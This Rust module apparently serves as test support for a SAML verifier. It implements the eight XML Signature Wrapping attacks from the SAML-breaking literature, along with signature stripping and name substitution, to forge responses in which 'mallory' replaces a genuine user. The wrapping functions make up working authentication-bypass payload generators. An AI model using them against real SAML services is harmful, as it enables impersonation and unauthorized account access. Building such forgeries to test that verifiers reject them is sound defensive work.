//! The forger's workshop: each makes a document of a genuine one, in which somebody else stands who was never vouched for.
//!
//! The eight ways of wrapping are numbered as the literature has them (Somorovsky and others, "On Breaking SAML", 2012) and
//! as the tool SAML Raider does. Only texts are moved: a forger has no key.

/// Who the forger wants to be.
pub(crate) const MALLORY: &str = "mallory";

/// A genuine document, cut into its parts.
struct Parts<'a> {
    xml: &'a str,
    /// Of the response.
    signature: &'a str,
    assertion: &'a str,
    /// Of the assertion.
    inner: &'a str,
}

/// Wraps a document in one of the eight ways; `None` where it has not the signature that the way needs.
pub(crate) fn wrapped(way: u8, xml: &str) -> Option<String> {
    let parts = Parts::of(xml);
    match way {
        1 | 2 if parts.signature.is_empty() => None,
        3..=8 if parts.inner.is_empty() => None,
        1 => Some(parts.response_in_its_signature()),
        2 => Some(parts.response_beside_its_signature()),
        _ => Some(parts.wrapped_assertion(way)),
    }
}

/// The signature of a document, and of its assertion, taken away.
pub(crate) fn stripped(xml: &str) -> String {
    let Parts { signature, inner, .. } = Parts::of(xml);
    [signature, inner]
        .into_iter()
        .filter(|part| !part.is_empty())
        .fold(forged(xml), |xml, part| xml.replace(part, ""))
}

/// Somebody else's name in it.
pub(crate) fn forged(text: &str) -> String {
    text.replace(">ada<", &format!(">{MALLORY}<"))
}

impl Parts<'_> {
    fn of(xml: &str) -> Parts<'_> {
        let assertion = between(xml, "<saml:Assertion", "</saml:Assertion>").unwrap();
        let inner = between(assertion, "<ds:Signature", "</ds:Signature>").unwrap_or_default();
        let begin = xml.find("<saml:Assertion").unwrap();
        let signature = between(&xml[..begin], "<ds:Signature", "</ds:Signature>").unwrap_or_default();
        Parts { xml, signature, assertion, inner }
    }

    /// The document with another ID and another name, and in the place of its signature this.
    fn evil_response(&self, signature: &str) -> String {
        let evil = self.xml.replacen("_response", "_evil", 1).replace(self.signature, "@@");
        forged(&evil).replace("_assertion", "_evil_assertion").replace("@@", signature)
    }

    fn without_signature(&self) -> String {
        self.xml.replace(self.signature, "")
    }

    fn response_in_its_signature(&self) -> String {
        let original = self.without_signature();
        self.evil_response(&self.signature.replace("</ds:Signature>", &format!("{original}</ds:Signature>")))
    }

    fn response_beside_its_signature(&self) -> String {
        let original = self.without_signature();
        self.evil_response(&format!("{original}{}", self.signature))
    }

    fn wrapped_assertion(&self, way: u8) -> String {
        let original = self.assertion;
        let bare = original.replace(self.inner, "");
        let evil = forged(&bare).replacen("_assertion", "_evil", 1);
        let with_signature = |inside: &str| {
            let signature = self.inner.replace("</ds:Signature>", &format!("{inside}</ds:Signature>"));
            evil.replacen("<saml:Subject>", &format!("{signature}<saml:Subject>"), 1)
        };
        let end = "</saml:Assertion>";
        let content = match way {
            3 => format!("{evil}{original}"),
            4 => evil.replace(end, &format!("{original}{end}")),
            5 => format!("{}{bare}", with_signature("")),
            6 => with_signature(&bare),
            7 => format!("<samlp:Extensions>{evil}</samlp:Extensions>{original}"),
            _ => with_signature(&format!("<ds:Object>{bare}</ds:Object>")),
        };
        self.xml.replace(original, &content)
    }
}

fn between<'a>(text: &'a str, begin: &str, end: &str) -> Option<&'a str> {
    let from = text.find(begin)?;
    let to = text[from..].find(end)? + from + end.len();
    Some(&text[from..to])
}
